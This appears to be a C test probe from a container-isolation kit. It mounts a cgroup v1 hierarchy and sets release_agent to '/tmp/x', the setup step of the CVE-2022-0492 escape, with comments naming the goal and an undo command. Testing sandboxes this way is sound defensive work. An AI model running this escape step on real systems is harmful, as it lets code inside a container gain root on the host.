// tries: to have the kernel start a program outside when a cgroup becomes empty
// works: cgroup v1's release_agent runs as root in the first namespace
// see: CVE-2022-0492
// goal: change
// user: root
// watch: /proc/self/mountinfo
// undo: umount -l "$WORK/v1"
// alone: it is the machine's
#include "../kit.h"

int main(void)
{
	const char *at = join(env("WORK"), "/v1");

	MUST(mkdir(at, 0755));
	MUST(mount("cgroup", at, "cgroup", 0, "none,name=escape"));
	write_text(join(at, "/release_agent"), "/tmp/x");
	return 0;
}
